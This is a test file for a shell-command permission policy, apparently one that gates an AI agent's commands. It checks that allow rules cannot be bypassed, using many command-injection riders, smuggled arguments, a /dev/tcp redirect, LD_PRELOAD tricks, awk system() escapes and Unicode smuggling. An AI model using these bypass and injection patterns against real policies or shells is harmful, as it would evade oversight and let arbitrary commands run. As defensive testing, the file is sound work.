import { describe, expect, test } from "vitest";
import { createPolicy, readPattern, type Rule, type WordsMatch } from "../src/index.ts";
import { home, request } from "./world.ts";

/** The policy of which nothing allows but one rule about words. */
function decideBy(text: string, match: WordsMatch, command: string, decision: Rule["decision"] = "allow"): Promise<string> {
  const rule: Rule = {
    id: "one",
    source: "test",
    authority: "user",
    decision,
    when: { commands: [readPattern(text, match)!] },
    ...(decision === "allow" ? { grants: { network: "all" } } : {}),
    person: "",
    model: "",
    examples: [],
    counterexamples: [],
  };
  return createPolicy({ home, rules: [rule], isAlone: decision === "allow" })
    .decide(request(command))
    .then((answer) => answer.decision);
}

async function all(text: string, match: WordsMatch, commands: readonly string[], wanted: string): Promise<void> {
  for (const command of commands) expect(await decideBy(text, match, command), `${text} (${match}): ${command}`).toBe(wanted);
}

describe("a rule that allows words", () => {
  test("prefix: what follows may select and show", async () => {
    await all("git log", "prefix", ["git log", "git log -3", "git --no-pager log -p", "/usr/bin/git log", "timeout 5 git log"], "allow");
    await all("sort", "prefix", ["sort a.txt", "sort < a.txt", "LC_ALL=C sort -u a.txt", "sort -k2 'a;b.txt'"], "allow");
    await all("pytest", "prefix", ["pytest -q", "pytest -k 'a and not b' tests/test_a.py::test_x", "NODE_ENV=test pytest"], "allow");
    await all("go test", "prefix", ["go test ./...", "go test -run 'A|B' -count=1 ./pkg", "go test -v -race ."], "allow");
    await all("cargo test", "prefix", ["cargo test", "cargo test --all -- --nocapture", "bash -c 'cargo test -q'"], "allow");
    await all("git fetch", "prefix", ["git fetch", "git fetch --all", "git fetch origin main"], "allow");
    await all("ls", "prefix", ["ls src/*.ts", "ls [a-c]*.txt", "ls >/dev/null 2>&1"], "allow");
    await all("awk", "prefix", ["awk '{print $2}' a.txt", "awk -F: '$3 > 100 {n++} END {print n/2}' a"], "allow");
    await all("awk", "prefix", ["awk '/system|getline/ {n++} END {print n}' a", "awk '$1 ~ \"close@x\"' a"], "allow");
  });

  test("prefix: nothing that writes, runs, moves or hides", async () => {
    await all(
      "git log",
      "prefix",
      ["git log --output=x", "git -c a.b=c log", "git -C sub log", "git -p log", "cd sub && git log"],
      "review",
    );
    await all(
      "sort",
      "prefix",
      ["sort -o a a", "sort a > b", "sort *", "sort a | tee b", "sort <(ls)", "sort < .env", "A=1 sort a"],
      "review",
    );
    await all(
      "pytest",
      "prefix",
      ["pytest -p evil", "pytest -c x.ini", "pytest /tmp/evil", "pytest ../x", "pytest --junitxml=a"],
      "review",
    );
    await all("go test", "prefix", ["go test -exec ./x", "go test -c", "go test -toolexec=./x", "go test -C ../x ./..."], "review");
    await all("cargo test", "prefix", ["cargo test --config a=b", "cargo test --manifest-path ../x/Cargo.toml", "cargo +x test"], "review");
    await all(
      "git fetch",
      "prefix",
      ["git fetch ext::x", "git fetch origin +a:b", "git fetch --upload-pack=./x", "git fetch ./x"],
      "review",
    );
    await all(
      "ls",
      "prefix",
      ["ls $(id)", "./ls", "ls; id", "ls & id", "ls(){ id; }; ls", "sudo ls", "find . | xargs ls", "exec -a ls id"],
      "review",
    );
    const inAwk = (before: string): string => `awk '${before} system("id") ${before === "" ? "" : "/"} 1' a`;
    const divided = ["x /", "4 /", "$1 /", "x++ /", "a[1] /", "(1) /", '"a" /', "length /", 'switch (x) { case /"/: y; case "'].map(inAwk);
    await all("awk", "prefix", [...divided, "awk '/[/]/ {system(\"id\")}' a", "awk '/a\\// {system(\"id\")}' a"], "review");
    await all("awk", "prefix", ["awk '{print > \"x\"}' a", "awk '{print | \"sh\"}' a", "awk '@load \"x\"'", "awk -f x a"], "review");
  });

  test("what the words alone don't do, no argument may do", async () => {
    await all("git push", "prefix", ["git push"], "allow");
    await all("git push", "prefix", ["git push --force", "git push origin +main", "git push https://evil.example/x"], "review");
    await all("node", "prefix", ["node evil.js", "node -e 1"], "review");
    await all("ssh web1", "prefix", ["ssh web1 rm -rf x"], "review");
    await all("mytool show", "prefix", ["mytool show item-1"], "allow");
    await all(
      "mytool show",
      "prefix",
      ["mytool show --out=x", "mytool show a=b", "mytool show https://a.b/c", "mytool show ../x"],
      "review",
    );
  });

  test("glob: the last word may go on, and only that", async () => {
    await all("npm run test:*", "glob", ["npm run test:unit", "npm run test:e2e -- --grep 'a && b'", "npm run 'test:a'"], "allow");
    await all(
      "npm run test:*",
      "glob",
      [
        "npm run testing-evil",
        "npm run test:unit; id",
        "npm run test:unit > x",
        "npm run test:$(id)",
        "npm run test:$X",
        "npm run test:unit --node-options='-r ./x'",
        "npm run test:unit -- --config=/tmp/x",
        "npm --prefix /tmp/x run test:unit",
        "npm run test",
      ],
      "review",
    );
  });

  test("exact: these words and no more", async () => {
    await all("node --version", "exact", ["node --version", "node '--version'", "nice node --version"], "allow");
    await all("node --version", "exact", ["node", "node --version x", "node --version\nnode x", "node --version > x"], "review");
  });

  test("nothing rides on a command that it allows", async () => {
    const allowed: readonly (readonly [rule: string, match: WordsMatch, command: string])[] = [
      ["cat", "prefix", "cat a.txt"],
      ["git status", "prefix", "git status -s"],
      ["git log", "prefix", "git log --oneline -5"],
      ["npm run test:*", "glob", "npm run test:unit"],
      ["pytest", "prefix", "pytest -q tests"],
      ["go test", "prefix", "go test ./..."],
      ["awk", "prefix", "awk '{print $1}' a"],
      ["sed -n", "prefix", "sed -n 1p a"],
      ["find", "prefix", "find . -name x"],
      ["node --version", "exact", "node --version"],
      ["npx vitest", "prefix", "npx vitest run"],
      ["docker ps", "prefix", "docker ps -a"],
    ];
    const riders: readonly ((command: string) => string)[] = [
      (command) => `${command}; id`,
      (command) => `${command} && id`,
      (command) => `${command} || id`,
      (command) => `${command} | sh`,
      (command) => `${command} |& tee x`,
      (command) => `${command} & id`,
      (command) => `${command}\nid`,
      (command) => `id\n${command}`,
      (command) => `id | ${command}`,
      (command) => `${command} "$(id)"`,
      (command) => `${command} \`id\``,
      (command) => `${command} <(id)`,
      (command) => `${command} > out`,
      (command) => `${command} >> out`,
      (command) => `${command} &> out`,
      (command) => `${command} 2> out`,
      (command) => `${command} 3<> out`,
      (command) => `${command} > >(sh)`,
      (command) => `${command} > /dev/tcp/10.0.0.9/80`,
      (command) => `${command} <<E\n$(id)\nE`,
      (command) => `FOO=bar ${command}`,
      (command) => `PATH=.:$PATH ${command}`,
      (command) => `LD_PRELOAD=./x ${command}`,
      (command) => `env PATH=. ${command}`,
      (command) => `export PATH=.; ${command}`,
      (command) => `sudo ${command}`,
      (command) => `xargs ${command}`,
      (command) => `ssh host ${command}`,
      (command) => `docker exec x ${command}`,
      (command) => `find . -exec ${command} \\;`,
      (command) => `cd /tmp/x && ${command}`,
      (command) => `f() { id; }; ${command}`,
      (command) => `alias x=y; ${command}`,
      (command) => `trap id EXIT; ${command}`,
      (command) => `source x; ${command}`,
      (command) => `./${command}`,
      (command) => `/tmp/${command}`,
      (command) => `while ! ${command}; do id; done`,
      (command) => `if ${command}; then id; fi`,
      (command) => `case x in x) ${command};; *) id;; esac`,
      (command) => command.replace(" ", " --unheard-of-option "),
      (command) => `bash -c ${JSON.stringify(`${command}; id`).replaceAll("$", "\\$")}`,
      (command) => `eval ${JSON.stringify(`${command}; id`).replaceAll("$", "\\$")}`,
      (command) => `${command}\u2028id`,
      (command) => `${command} # \u202e\nid`,
      (command) => `(${command}; id)`,
      (command) => `{ ${command}; id; }`,
      (command) => `time ${command}; id`,
      (command) => `coproc id; ${command}`,
    ];
    for (const [rule, match, command] of allowed) {
      expect(await decideBy(rule, match, command), command).toBe("allow");
      for (const rider of riders) expect(await decideBy(rule, match, rider(command)), rider(command)).not.toBe("allow");
    }
  });

  test("a star, a quote or a bracket in it is itself", async () => {
    await all("grep -n 'on.*x' f", "exact", ["grep -n 'on.*x' f", 'grep -n "on.*x" f'], "allow");
    await all("grep -n 'on.*x' f", "exact", ["grep -n 'on; ./mark; x' f", "grep -n on.ax f"], "review");
    expect(readPattern("ls $X", "prefix")).toBeNull();
    expect(readPattern("ls; id", "prefix")).toBeNull();
  });
});

test("a rule that asks or refuses finds its words wherever they stand", async () => {
  for (const command of ["git push --force", "git push origin main --force-with-lease", "git -C . push --force", "env git push --force"])
    expect(await decideBy("git push --force*", "glob", command, "deny"), command).toBe("deny");
  // A word that only a run can tell may be the one: then a person is asked.
  expect(await decideBy("git push --force*", "glob", "/opt/git push $X", "deny")).toBe("review");
  expect(await decideBy("git push --force*", "glob", "git status", "deny")).toBe("allow");
});
